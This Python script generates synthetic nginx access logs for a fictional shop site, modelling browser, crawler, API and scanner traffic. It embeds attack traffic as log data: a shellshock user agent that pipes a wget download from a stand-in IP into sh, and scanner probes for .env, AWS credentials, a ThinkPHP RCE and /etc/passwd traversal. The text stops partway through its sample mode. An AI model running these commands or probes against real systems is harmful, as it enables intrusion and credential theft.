#!/usr/bin/env python3
"""Deterministic generator of nginx access log lines (python3, stdlib only).

    python3 scripts/nginx_log_gen.py --lines N --seed S [--sample] > access.log

Writes N lines of nginx `combined` format
    $remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent"
as a small shop site sees them: browsers (Chrome, Firefox, Safari on iOS and macOS, Edge) loading
pages and their assets, crawlers (Googlebot, bingbot, ...), API clients (python-requests, curl,
okhttp), health checks, scanners. Times increase monotonically (never go back) from
01/Dec/2026:17:56:11 +0000. Variable values are escaped as nginx does (escape=default): `"`, `\\`,
control bytes and bytes >= 0x7F become `\\xHH`.

The same seed and options always give the same bytes.

`--sample` produces the bundled examples/access.log: every method, status, HTTP version and user
agent family is guaranteed to appear, and on top of the combined lines it adds the things a real
log file holds that one log_format does not describe:
  - a few lines in nginx's `main` format (combined + ` "$http_x_forwarded_for"`);
  - raw Latin-1 bytes (0xE9 for `é` ..., and one windows-1252 0x92), as a proxy that does not
    escape would write them: read this file with charset ISO-8859-1;
  - three lines that are not access log lines at all (an error-log line, a startup warning,
    a line cut short by a crash);
  - a `"-"` request (the client connected and sent nothing), a TLS handshake sent to the plain
    HTTP port, a request line with spaces, a shellshock probe, a scanner looking for WordPress.
"""

import argparse
import ipaddress
import random
import re
import sys
import time

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
START = 1796147771  # 2026-12-01T17:56:11Z
METHODS = ["GET", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS"]
STATUSES = [200, 201, 204, 301, 302, 304, 400, 401, 403, 404, 499, 500, 502, 503]

# What nginx's default log escaping turns into \xHH.
NEEDS_ESCAPE = re.compile(rb'[\x00-\x1f"\\\x7f-\xff]')


def nginx_escape(value):
    """`value` (bytes) as nginx writes a variable into the access log (escape=default)."""
    if NEEDS_ESCAPE.search(value) is None:
        return value
    return NEEDS_ESCAPE.sub(lambda m: b"\\x%02X" % m.group()[0], value)


# ---------------------------------------------------------------------------------------------
# Vocabulary of the site

HOST = "shop.example.com"
CATEGORIES = ["shoes", "jackets", "bags", "accessories", "kids", "sale", "new-arrivals",
              "outdoor", "running", "home-garden", "electronics", "books"]
PRODUCT_WORDS = ["classic", "leather", "trail", "runner", "waterproof", "wool", "linen", "slim",
                 "canvas", "alpine", "urban", "vintage", "eco", "pro", "lite", "max", "city",
                 "weekend", "merino", "cotton"]
PRODUCT_NOUNS = ["sneaker", "boot", "parka", "backpack", "tote", "beanie", "scarf", "jacket",
                 "hoodie", "sandal", "wallet", "belt", "shirt", "chino", "gloves"]
SEARCH_TERMS = [
    "red shoes", "winter jacket", "caf\u00e9 table", "m\u00fcsli bowl", "running shoes size 44",
    "gift ideas", "\u6771\u4eac", "na\u00efve art print", "b\u00e9b\u00e9 bodysuit",
    "rain coat", "leather belt", "wool socks", "\u0441\u0443\u043c\u043a\u0430",
    "kids 4-6 years", "50% off", "men's boots", "sac \u00e0 dos", "espa\u00f1ol libro",
    "usb-c cable", "hiking", "laptop sleeve 14\"",
]
BLOG_SLUGS = ["how-to-choose-running-shoes", "winter-care-for-leather", "our-sustainability-report",
              "packing-list-for-a-weekend", "behind-the-seams", "gift-guide-2026",
              "caf%C3%A9-culture-in-paris", "size-guide"]
DOWNLOADS = ["catalog-2026.pdf", "Annual%20Report%202026.pdf", "size-chart.pdf",
             "app-release-5.4.1.apk", "press-kit.zip", "firmware-v2.3.bin", "backup-2026-11-30.tar.gz"]
IMAGES = ["hero", "banner-winter", "logo", "promo", "thumb", "gallery", "icon-cart", "avatar"]
SOCIAL_REFERRERS = [
    "https://www.facebook.com/", "https://l.facebook.com/", "https://t.co/", "https://www.instagram.com/",
    "https://www.reddit.com/r/malefashionadvice/comments/1h3k2x/", "android-app://com.google.android.gm/",
    "https://duckduckgo.com/", "https://www.bing.com/", "https://news.ycombinator.com/",
]
API_USERS = ["svc-inventory", "svc-billing", "deploy", "ci-runner"]
ADMIN_USERS = ["alice", "bob", "j.smith", "admin", "m.garcia"]
SCANNER_PATHS = [
    "/wp-login.php", "/xmlrpc.php", "/.env", "/.git/config", "/wp-admin/setup-config.php",
    "/phpmyadmin/index.php", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/cgi-bin/luci/;stok=/locale", "/admin/config.php", "/boaform/admin/formLogin",
    "/.aws/credentials", "/owa/auth/logon.aspx", "/actuator/env", "/server-status",
    "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1",
    "/..%2F..%2F..%2F..%2Fetc%2Fpasswd", "/HNAP1/", "/solr/admin/info/system?wt=json",
]


class Generator:
    """Makes access log records: sessions of clients, interleaved, stamped in time order."""

    def __init__(self, seed, sample):
        self.r = random.Random(seed)
        self.sample = sample
        self.now = float(START)
        self.time_cache = (None, b"")
        # Client pool: popular clients come back (index skewed towards 0).
        self.pool_size = 60 if sample else 20000
        self.skew = 1.3 if sample else 2.5
        self.rate = 1.5 if sample else 25.0  # requests per second
        self.pool = [self.new_client() for _ in range(self.pool_size)]
        self.active = []

    # --- clients ------------------------------------------------------------------------------

    FAMILIES = [
        ("chrome", 34), ("safari_ios", 15), ("chrome_android", 12), ("firefox", 7), ("edge", 6),
        ("safari_mac", 4), ("googlebot", 4), ("bingbot", 2), ("otherbot", 2), ("curl", 3),
        ("python_requests", 3), ("app", 3), ("health", 3), ("none", 1), ("scanner", 1),
    ]

    def new_client(self, family=None):
        r = self.r
        if family is None:
            names, weights = zip(*self.FAMILIES)
            family = r.choices(names, weights)[0]
        client = {"family": family, "user": b"-", "ip": self.ip(family), "ua": self.user_agent(family)}
        if family in ("chrome", "safari_ios", "chrome_android", "firefox", "edge", "safari_mac"):
            client["kind"] = "browser"
            client["ver"] = b"2.0" if r.random() < 0.72 else b"1.1"
        elif family in ("googlebot", "bingbot", "otherbot"):
            client["kind"] = "bot"
            client["ver"] = b"1.1" if r.random() < 0.9 else b"2.0"
        elif family == "health":
            client["kind"] = "health"
            client["ver"] = b"1.0" if r.random() < 0.5 else b"1.1"
        elif family == "scanner":
            client["kind"] = "scanner"
            client["ver"] = r.choice([b"1.0", b"1.1", b"1.1"])
        else:  # curl, python_requests, app, none
            client["kind"] = "api"
            client["ver"] = r.choice([b"1.1", b"1.1", b"1.1", b"2.0", b"1.0"])
            if family in ("python_requests", "curl") and r.random() < 0.4:
                client["user"] = r.choice(API_USERS).encode()
        return client

    def ip(self, family):
        r = self.r
        if family == "googlebot":
            if r.random() < 0.25:
                return ("2001:4860:4801:%x::%x" % (r.randint(0x10, 0x9f), r.randint(1, 0xff))).encode()
            return b"66.249.%d.%d" % (r.choice([64, 65, 66, 68, 69, 70, 72, 73, 79]), r.randint(1, 254))
        if family == "bingbot":
            return r.choice([b"40.77.167.%d", b"157.55.39.%d", b"207.46.13.%d"]) % r.randint(1, 254)
        if family == "health":
            return b"10.0.%d.%d" % (r.randint(0, 3), r.randint(2, 254))
        if family in ("python_requests", "app") and r.random() < 0.3:
            return b"172.16.%d.%d" % (r.randint(0, 31), r.randint(2, 254))
        if r.random() < 0.18:
            # Global unicast, mostly as browsers on mobile networks present them.
            value = (0x2000 + r.randint(0, 0x0fff)) << 112 | r.getrandbits(96)
            if r.random() < 0.3:
                value &= ~((1 << 64) - 1) | r.getrandbits(16)  # many zeros: compressed form
            return str(ipaddress.IPv6Address(value)).encode()
        while True:
            a = r.randint(1, 223)
            if a not in (10, 127, 169, 172, 192):
                return b"%d.%d.%d.%d" % (a, r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))

    def user_agent(self, family):
        r = self.r
        chrome = r.randint(118, 131)
        build = "%d.0.%d.%d" % (chrome, r.randint(5900, 6800), r.randint(50, 220))
        if family == "chrome":
            platform = r.choices(["Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7",
                                  "X11; Linux x86_64", "X11; CrOS x86_64 14541.0.0"], [70, 20, 7, 3])[0]
            return ("Mozilla/5.0 (%s) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%d.0.0.0 Safari/537.36"
                    % (platform, chrome)).encode()
        if family == "chrome_android":
            device = r.choice(["K", "K", "K", "SM-S911B", "Pixel 8", "SM-A536B", "M2101K6G"])
            version = build if device != "K" else "%d.0.0.0" % chrome
            return ("Mozilla/5.0 (Linux; Android %d; %s) AppleWebKit/537.36 (KHTML, like Gecko) "
                    "Chrome/%s Mobile Safari/537.36" % (r.randint(10, 15), device, version)).encode()
        if family == "firefox":
            v = r.randint(115, 133)
            platform = r.choice(["Windows NT 10.0; Win64; x64", "X11; Ubuntu; Linux x86_64",
                                 "Macintosh; Intel Mac OS X 10.15", "X11; Linux x86_64"])
            return ("Mozilla/5.0 (%s; rv:%d.0) Gecko/20100101 Firefox/%d.0" % (platform, v, v)).encode()
        if family == "safari_ios":
            major = r.choice([16, 17, 17, 18, 18, 18])
            minor = r.randint(0, 6)
            device = r.choices(["iPhone; CPU iPhone OS", "iPad; CPU OS"], [85, 15])[0]
            return ("Mozilla/5.0 (%s %d_%d like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    "Version/%d.%d Mobile/15E148 Safari/604.1" % (device, major, minor, major, minor)).encode()
        if family == "safari_mac":
            return ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                    "Version/%d.%d Safari/605.1.15" % (r.choice([17, 18]), r.randint(0, 6))).encode()
        if family == "edge":
            return ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                    "Chrome/%d.0.0.0 Safari/537.36 Edg/%d.0.%d.%d"
                    % (chrome, chrome, r.randint(2000, 2900), r.randint(40, 120))).encode()
        if family == "googlebot":
            if r.random() < 0.5:
                return b"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
            return ("Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
                    "(KHTML, like Gecko) Chrome/%s Mobile Safari/537.36 (compatible; Googlebot/2.1; "
                    "+http://www.google.com/bot.html)" % build).encode()
        if family == "bingbot":
            if r.random() < 0.5:
                return b"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"
            return (b"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; "
                    b"+http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36")
        if family == "otherbot":
            return r.choice([
                b"Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
                b"Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
                b"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
                b"Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
                b"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                b"Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)",
            ])
        if family == "curl":
            return r.choice([b"curl/7.81.0", b"curl/7.88.1", b"curl/8.5.0", b"curl/8.11.1"])
        if family == "python_requests":
            return r.choice([b"python-requests/2.31.0", b"python-requests/2.32.3", b"python-requests/2.28.1"])
        if family == "app":
            return r.choice([
                ("ShopApp/5.4.%d (iPhone; iOS 18.%d; Scale/3.00)" % (r.randint(0, 3), r.randint(0, 2))).encode(),
                b"okhttp/4.12.0", b"Go-http-client/2.0", b"Go-http-client/1.1", b"Wget/1.21.4",
                b"Dalvik/2.1.0 (Linux; U; Android 14; SM-S911B Build/UP1A.231005.007)",
            ])
        if family == "health":
            return r.choice([b"kube-probe/1.30", b"ELB-HealthChecker/2.0", b"Prometheus/2.53.0"])
        if family == "scanner":
            return r.choice([
                b"Mozilla/5.0 zgrab/0.x",
                b"Mozilla/5.0 (Windows NT 6.1; WOW64; rv:52.0) Gecko/20100101 Firefox/52.0",
                b"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/81.0.4044.129 Safari/537.36",
                b"Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)",
                b"-",
            ])
        return b"-"  # family "none": no User-Agent header

    # --- URLs ---------------------------------------------------------------------------------

    def product_slug(self):
        r = self.r
        return "%s-%s-%s" % (r.choice(PRODUCT_WORDS), r.choice(PRODUCT_WORDS), r.choice(PRODUCT_NOUNS))

    @staticmethod
    def percent_encode(text):
        out = []
        for byte in text.encode("utf-8"):
            c = chr(byte)
            if c.isalnum() and byte < 0x80 or c in "-._~":
                out.append(c)
            elif c == " ":
                out.append("+")
            else:
                out.append("%%%02X" % byte)
        return "".join(out)

    def tracking_params(self, long=False):
        r = self.r
        params = ["utm_source=%s" % r.choice(["google", "newsletter", "facebook", "instagram", "bing"]),
                  "utm_medium=%s" % r.choice(["cpc", "email", "social", "display"]),
                  "utm_campaign=%s" % r.choice(["winter_sale_2026", "black-friday", "retarget%2Fq4", "brand"])]
        if long or r.random() < 0.4:
            token = "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-")
                            for _ in range(r.randint(60, 110)))
            params.append(r.choice(["gclid=", "fbclid=", "msclkid="]) + token)
        return "&".join(params)

    def page_url(self):
        r = self.r
        x = r.random()
        if x < 0.16:
            url = r.choice(["/", "/", "/", "/index.html"])
        elif x < 0.50:
            url = "/products/%s-%d" % (self.product_slug(), r.randint(1000, 99999))
            if r.random() < 0.2:
                url += "?color=%s&size=%s" % (r.choice(["black", "navy", "red", "olive", "off-white"]),
                                               r.choice(["S", "M", "L", "XL", "42", "43", "44"]))
        elif x < 0.72:
            url = "/category/%s" % r.choice(CATEGORIES)
            if r.random() < 0.5:
                url += "?page=%d&sort=%s" % (r.randint(1, 30), r.choice(["price_asc", "price_desc", "newest", "popular"]))
                if r.random() < 0.3:
                    url += "&filter%5Bsize%5D%5B%5D=" + r.choice(["40", "41", "42", "M", "L"]) + \
                           "&filter%5Bcolor%5D%5B%5D=" + r.choice(["black", "blue", "green"])
        elif x < 0.85:
            url = "/search?q=%s" % self.percent_encode(r.choice(SEARCH_TERMS))
            if r.random() < 0.4:
                url += "&page=%d" % r.randint(2, 9)
        elif x < 0.92:
            url = "/blog/2026/%02d/%s" % (r.randint(1, 11), r.choice(BLOG_SLUGS))
        else:
            url = r.choice(["/cart", "/checkout", "/account", "/account/orders", "/login", "/help/shipping",
                            "/help/returns", "/stores", "/about", "/contact"])
        if r.random() < 0.07:
            url += ("&" if "?" in url else "?") + self.tracking_params()
        return url

    def asset(self):
        """(url, typical body bytes) of a static asset a page loads."""
        r = self.r
        x = r.random()
        if x < 0.25:
            return "/static/js/%s.%08x.js" % (r.choice(["app", "vendor", "runtime", "checkout", "chunk-%d" % r.randint(1, 40)]),
                                             r.getrandbits(32)), r.randint(800, 900000)
        if x < 0.40:
            return "/static/css/%s.%08x.css" % (r.choice(["main", "theme", "print"]), r.getrandbits(32)), r.randint(2000, 140000)
        if x < 0.85:
            kind = r.choice(["products", "banners", "thumbs"])
            ext = r.choice(["jpg", "webp", "webp", "png", "avif"])
            if kind == "products":
                name = "%s-%d-%dx%d.%s" % (self.product_slug(), r.randint(1, 6), *r.choice([(400, 400), (800, 800), (1600, 1600)]), ext)
            else:
                name = "%s-%d.%s" % (r.choice(IMAGES), r.randint(1, 30), ext)
            return "/images/%s/%s" % (kind, name), int(r.lognormvariate(10.5, 1.1))
        if x < 0.92:
            return "/static/fonts/%s.woff2" % r.choice(["inter-var", "inter-italic", "icons"]), r.randint(18000, 110000)
        if x < 0.96:
            return "/favicon.ico", 15086
        # Analytics beacon: a long query string, answered with an empty body.
        params = "v=2&tid=G-%s&gtm=45je4bk0&_p=%d&cid=%d.%d&ul=%s&sr=%dx%d&uaa=x86&uab=64&uafvl=%s&_s=%d&dl=%s&dt=%s&sid=%d&sct=%d&seg=1&en=page_view&_ee=1&ep.content_group=%s" % (
            "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(10)),
            r.getrandbits(40), r.getrandbits(30), r.randint(1700000000, 1800000000),
            r.choice(["en-us", "fr-fr", "de-de", "es-es", "ja-jp"]),
            *r.choice([(1920, 1080), (2560, 1440), (390, 844), (1440, 900), (412, 915)]),
            "Chromium%3B131.0.6778.86%7CNot_A%2520Brand%3B24.0.0.0", r.randint(1, 12),
            self.percent_encode("https://%s%s" % (HOST, self.page_url())),
            self.percent_encode(r.choice(["Winter Sale \u2013 Shop", "Caf\u00e9 Table | Shop", "Search results", "Your cart"])),
            r.randint(1700000000, 1800000000), r.randint(1, 40), r.choice(["product", "category", "home"]))
        return "/g/collect?" + params, 0

    # --- records ------------------------------------------------------------------------------

    def record(self, client, method, url, status, size, referrer=b"-", ver=None):
        if isinstance(url, str):
            url = url.encode()
        if isinstance(referrer, str):
            referrer = referrer.encode()
        return {"ip": client["ip"], "user": client["user"], "method": method, "url": url,
                "ver": ver if ver is not None else client["ver"], "status": status, "bytes": size,
                "ref": referrer, "ua": client["ua"], "family": client["family"]}

    def status_for(self, kind):
        r = self.r
        x = r.random()
        if kind == "page":
            table = [(200, 0.895), (304, 0.925), (301, 0.94), (302, 0.955), (404, 0.975), (499, 0.981),
                     (500, 0.986), (502, 0.99), (503, 0.993), (403, 0.996), (400, 0.998), (401, 1.0)]
        elif kind == "asset":
            table = [(200, 0.70), (304, 0.975), (404, 0.99), (499, 0.996), (403, 0.998), (502, 0.999), (500, 1.0)]
        else:
            raise ValueError(kind)
        for status, limit in table:
            if x < limit:
                return status
        return 200

    @staticmethod
    def error_body(status, size=None):
        """Body size of nginx's default error and redirect pages."""
        return {301: 162, 302: 138, 400: 150, 401: 172, 403: 146, 404: 146, 499: 0, 500: 170,
                502: 150, 503: 190, 304: 0, 204: 0}.get(status, size)

    def page_size(self, status):
        if status == 200:
            return int(self.r.lognormvariate(10.0, 0.6))
        return self.error_body(status)

    def external_referrer(self, landing_url):
        r = self.r
        x = r.random()
        if x < 0.45:
            return b"-"
        if x < 0.75:
            return r.choice([b"https://www.google.com/", b"https://www.google.com/", b"https://www.google.fr/",
                             b"https://www.google.de/"])
        if x < 0.85:
            return r.choice(SOCIAL_REFERRERS).encode()
        if x < 0.9:
            # A search result page with a long, percent-escaped query.
            return ("https://www.google.com/search?q=%s&sca_esv=%x&source=hp&ei=%s&iflsig=AL9hbdg&ved=0ahUKEwj%s&uact=5&oq=%s&gs_lp=Egdnd3Mtd2l6&sclient=gws-wiz"
                    % (self.percent_encode(r.choice(SEARCH_TERMS)), r.getrandbits(48),
                       "".join(r.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJ0123456789") for _ in range(22)),
                       "".join(r.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(30)),
                       self.percent_encode(r.choice(SEARCH_TERMS)))).encode()
        if x < 0.995:
            return ("https://www.%s/%s" % (r.choice(["reddit.com", "pinterest.com", "blog.example.org",
                                                       "deals.example.net", "forum.example.de"]),
                                            r.choice(["", "r/deals/", "pin/%d/" % r.getrandbits(40), "2026/11/best-boots",
                                                      "t/thread-%d" % r.randint(1, 99999)]))).encode()
        # A referrer with non-ASCII bytes sent raw by the browser: nginx escapes them.
        return "https://forum.example.ru/\u0442\u0435\u043c\u0430/%d".encode("utf-8") % r.randint(1, 999)

    def session(self, client=None):
        """The list of records of one client's visit."""
        r = self.r
        if client is None:
            client = self.pool[int(self.pool_size * r.random() ** self.skew)]
        kind = client["kind"]
        out = []
        base = "https://%s" % HOST
        if kind == "browser" and r.random() < 0.03:
            # The back office, behind HTTP basic auth: $remote_user is set once logged in.
            out.append(self.record(client, b"GET", "/admin/", 401, 172))
            admin = dict(client, user=r.choice(ADMIN_USERS).encode())
            page = base + "/admin/"
            for url in ["/admin/"] + ["/admin/orders?status=%s&page=%d" % (r.choice(["open", "shipped", "refunded"]), r.randint(1, 20)),
                                      "/admin/products/%d/edit" % r.randint(1000, 99999), "/admin/reports/sales?from=2026-11-01&to=2026-11-30"][:r.randint(1, 3)]:
                out.append(self.record(admin, b"GET", url, 200, self.page_size(200), page))
                page = base + url
            if r.random() < 0.5:
                out.append(self.record(admin, b"POST", "/admin/products/%d" % r.randint(1000, 99999), 302, 138, page))
        elif kind == "browser":
            referrer = None
            for _ in range(r.choice([1, 1, 1, 2, 2, 3, 4, 6])):
                url = self.page_url()
                status = self.status_for("page")
                method = b"GET"
                if url == "/login" and r.random() < 0.5:
                    method, status = b"POST", r.choice([302, 302, 302, 200, 401, 400])
                elif url in ("/checkout", "/cart") and r.random() < 0.4:
                    method, status = b"POST", r.choice([200, 201, 302, 302, 400, 500])
                if referrer is None:
                    referrer = self.external_referrer(url)
                size = self.page_size(status) if method == b"GET" or status in (200, 201) else self.error_body(status, 0)
                out.append(self.record(client, method, url, status, size, referrer))
                page = (base + url).encode()
                if status not in (200, 304):
                    referrer = page
                    continue
                for _ in range(r.choice([0, 0, 1, 2, 3, 4, 6, 8, 12])):
                    asset, size = self.asset()
                    status = self.status_for("asset")
                    if asset.startswith("/g/collect"):
                        status = 204 if r.random() < 0.97 else 400
                        size = 0
                    elif status != 200:
                        size = self.error_body(status, 0)
                    out.append(self.record(client, b"GET" if not asset.startswith("/g/") else b"POST", asset, status, size, page))
                # XHR to the API from the page.
                if r.random() < 0.25:
                    out.extend(self.api_calls(client, referrer=page, count=r.randint(1, 3)))
                referrer = page
            if r.random() < 0.01:
                # A download, sometimes cancelled by the user (499 with what was sent so far).
                name = r.choice(DOWNLOADS)
                size = int(r.lognormvariate(15.5, 1.5))
                status = 200 if r.random() < 0.85 else 499
                if status == 499:
                    size = r.randint(0, size)
                out.append(self.record(client, b"GET", "/downloads/" + name, status, size, referrer or b"-"))
        elif kind == "bot":
            for _ in range(r.randint(1, 8)):
                x = r.random()
                if x < 0.05:
                    url, status, size = "/robots.txt", 200, 412
                elif x < 0.09:
                    url, status, size = "/sitemap.xml", r.choice([200, 200, 304]), 48211
                else:
                    url = self.page_url()
                    status = r.choice([200] * 14 + [301, 304, 304, 404, 404, 404, 503])
                    size = self.page_size(status)
                if status == 304:
                    size = 0
                method = b"HEAD" if r.random() < 0.03 else b"GET"
                if method == b"HEAD":
                    size = 0
                out.append(self.record(client, method, url, status, size))
        elif kind == "health":
            for _ in range(r.randint(1, 4)):
                status = 200 if r.random() < 0.995 else r.choice([502, 503])
                out.append(self.record(client, b"GET", r.choice(["/healthz", "/healthz", "/readyz", "/nginx_status"]),
                                       status, 2 if status == 200 else self.error_body(status)))
        elif kind == "api":
            if client["family"] == "curl" and r.random() < 0.3:
                x = r.random()
                if x < 0.4:
                    out.append(self.record(client, b"HEAD", r.choice(["/", "/downloads/" + r.choice(DOWNLOADS)]),
                                           r.choice([200, 200, 301, 404]), 0))
                else:
                    name = r.choice(DOWNLOADS)
                    out.append(self.record(client, b"GET", "/downloads/" + name, 200, int(r.lognormvariate(16, 1.4))))
            else:
                out.extend(self.api_calls(client, count=r.randint(1, 6)))
        elif kind == "scanner":
            out.extend(self.scan(client))
        return out

    API_METHOD_AT = {b"GET": 0.0, b"POST": 0.6, b"PUT": 0.75, b"PATCH": 0.82, b"DELETE": 0.9, b"OPTIONS": 0.95}

    def api_calls(self, client, referrer=b"-", count=1, method=None):
        """`count` calls to the JSON API (of the given method, else a typical mix)."""
        r = self.r
        out = []
        for _ in range(count):
            x = r.random() if method is None else self.API_METHOD_AT[method]
            res = r.choice(["cart", "orders", "products", "users", "wishlist", "inventory", "sessions"])
            rid = r.randint(1, 9999999)
            if x < 0.55:
                method = b"GET"
                url = "/api/v1/%s/%d" % (res, rid) if r.random() < 0.5 else \
                      "/api/v1/%s?limit=%d&offset=%d&fields=id,name,price,stock&include=variants" % (res, r.choice([20, 50, 100]), r.randint(0, 5000))
                status = r.choices([200, 304, 400, 401, 403, 404, 500, 502, 503], [85, 3, 2, 2, 1, 4, 1.5, 1, 0.5])[0]
            elif x < 0.72:
                method = b"POST"
                url = "/api/v1/%s" % res
                status = r.choices([201, 200, 400, 401, 403, 500, 502], [55, 30, 8, 3, 1, 2, 1])[0]
            elif x < 0.80:
                method, url = b"PUT", "/api/v1/%s/%d" % (res, rid)
                status = r.choices([200, 204, 400, 404, 500], [50, 35, 8, 5, 2])[0]
            elif x < 0.87:
                method, url = b"PATCH", "/api/v2/%s/%d/preferences" % (res, rid)
                status = r.choices([200, 204, 400, 403], [60, 25, 10, 5])[0]
            elif x < 0.93:
                method, url = b"DELETE", "/api/v1/%s/%d" % (res, rid)
                status = r.choices([204, 200, 404, 403], [70, 10, 15, 5])[0]
            else:
                method, url = b"OPTIONS", "/api/v1/%s" % res
                status = r.choice([204, 204, 200])
            if status in (200, 201):
                size = int(r.lognormvariate(7.5, 1.2))
            else:
                size = self.error_body(status, 0)
                if status in (400, 401, 403, 404) and r.random() < 0.7:
                    size = r.randint(40, 180)  # a JSON error body from the application
            out.append(self.record(client, method, url, status, size, referrer))
        return out

    def scan(self, client, paths=None):
        r = self.r
        out = []
        for path in paths or r.sample(SCANNER_PATHS, r.randint(1, 6)):
            method = b"POST" if path in ("/xmlrpc.php", "/boaform/admin/formLogin") and r.random() < 0.5 else b"GET"
            status = r.choice([404, 404, 404, 403, 400]) if "\\" not in path else 400
            out.append(self.record(client, method, path, status, self.error_body(status)))
        return out

    # --- special lines --------------------------------------------------------------------------

    def rare_oddity(self):
        """Real nginx combined output that is rare: odd requests, escaped bytes, '-' sizes."""
        r = self.r
        client = dict(self.new_client(r.choice(["scanner", "none", "chrome", "curl"])), user=b"-")
        x = r.random()
        if x < 0.2:
            rec = self.record(client, None, None, 400, 0)
            rec["request"] = b"-"  # connection opened, nothing sent
            rec["ua"] = b"-"
        elif x < 0.35:
            rec = self.record(client, None, None, 400, 157)
            rec["request"] = self.tls_hello()
            rec["ua"] = b"-"
        elif x < 0.5:
            rec = self.record(client, b"GET", "/search?q=caf\u00e9 cr\u00e8me".encode("utf-8"), 400, 150)
            rec["request"] = b"GET /search?q=caf\xc3\xa9 cr\xc3\xa8me HTTP/1.1"  # spaces sent raw
        elif x < 0.65:
            # Raw UTF-8 in the URL (a client that does not percent-encode): nginx escapes it.
            rec = self.record(client, b"GET", "/produits/caf\u00e9-cr\u00e8me-%d" % r.randint(1, 99), 404, 146)
        elif x < 0.75:
            rec = self.record(client, b"GET", "/cgi-bin/test.cgi", 404, 146)
            rec["ua"] = b'() { :; }; /bin/bash -c "wget http://198.51.100.23/x.sh -O- | sh"'
        elif x < 0.85:
            rec = self.record(client, b"GET", "/", 200, None, b"-")  # size unknown
        else:
            rec = self.record(client, b"GET", "/static/..\\..\\windows\\win.ini", 400, 150)
        rec["family"] = "oddity"
        return rec

    def tls_hello(self):
        r = self.r
        head = bytes([0x16, 0x03, 0x01, 0x00, r.choice([0xA5, 0xB7, 0xE3, 0xF1]), 0x01, 0x00, 0x00])
        return head + bytes(r.getrandbits(8) for _ in range(r.randint(0, 6)))

    # --- output -------------------------------------------------------------------------------

    def time_local(self):
        """$time_local of the next line (Poisson arrivals: it never goes back)."""
        self.now += self.r.expovariate(self.rate)
        second = int(self.now)
        if self.time_cache[0] != second:
            t = time.gmtime(second)
            self.time_cache = (second, b"%02d/%s/%d:%02d:%02d:%02d +0000" % (
                t.tm_mday, MONTHS[t.tm_mon - 1].encode(), t.tm_year, t.tm_hour, t.tm_min, t.tm_sec))
        return self.time_cache[1]

    def format(self, rec):
        stamp = self.time_local()
        if "raw" in rec:
            error_time = time.strftime("%Y/%m/%d %H:%M:%S", time.gmtime(self.time_cache[0])).encode()
            return rec["raw"].replace(b"%TIME%", stamp).replace(b"%ERROR_TIME%", error_time) + b"\n"
        if "request" in rec:
            request = rec["request"]
        else:
            request = b"%s %s HTTP/%s" % (rec["method"], rec["url"], rec["ver"])
        raw = rec.get("latin1", ())  # fields written without escaping
        fields = [rec[name] if name in raw else nginx_escape(rec[name]) for name in ("user", "ref", "ua")]
        line = b'%s - %s [%s] "%s" %d %s "%s" "%s"' % (
            rec["ip"], fields[0], stamp, nginx_escape(request), rec["status"],
            b"-" if rec["bytes"] is None else b"%d" % rec["bytes"], fields[1], fields[2])
        if "xff" in rec:
            line += b' "%s"' % rec["xff"]
        return line + b"\n"

    def records(self):
        """An endless stream of records: a few sessions at a time, interleaved."""
        r = self.r
        while True:
            while len(self.active) < 6:
                self.active.append(self.session())
            i = r.randrange(len(self.active))
            queue = self.active[i]
            if not queue:
                self.active[i] = self.session()
                continue
            if r.random() < 0.0004:
                yield self.rare_oddity()
            yield queue.pop(0)

    # --- sample mode ----------------------------------------------------------------------------

    def sample_records(self, lines):
        r = self.r
        stream = self.records()
        recs = [next(stream) for _ in range(lines)]
        used = set()

        def free_slot(count=1):
            while True:
                i = r.randrange(0, lines - count)
                if not any(j in used for j in range(i, i + count)):
                    used.update(range(i, i + count))
                    return i

        def put(rec_list):
            i = free_slot(len(rec_list))
            recs[i:i + len(rec_list)] = rec_list

        # Things that are not in nginx's output at all, or not in the combined format.
        put([{"raw": b'%ERROR_TIME% [error] 2211#2211: *48913 open() "/usr/share/nginx/html/apple-touch-icon.png" '
                     b'failed (2: No such file or directory), client: 203.0.113.9, server: shop.example.com, '
                     b'request: "GET /apple-touch-icon.png HTTP/1.1", host: "shop.example.com"', "family": "junk"}])
        put([{"raw": b'nginx: [warn] the "user" directive makes sense only if the master process runs with '
                     b'super-user privileges, ignored in /etc/nginx/nginx.conf:2', "family": "junk"}])
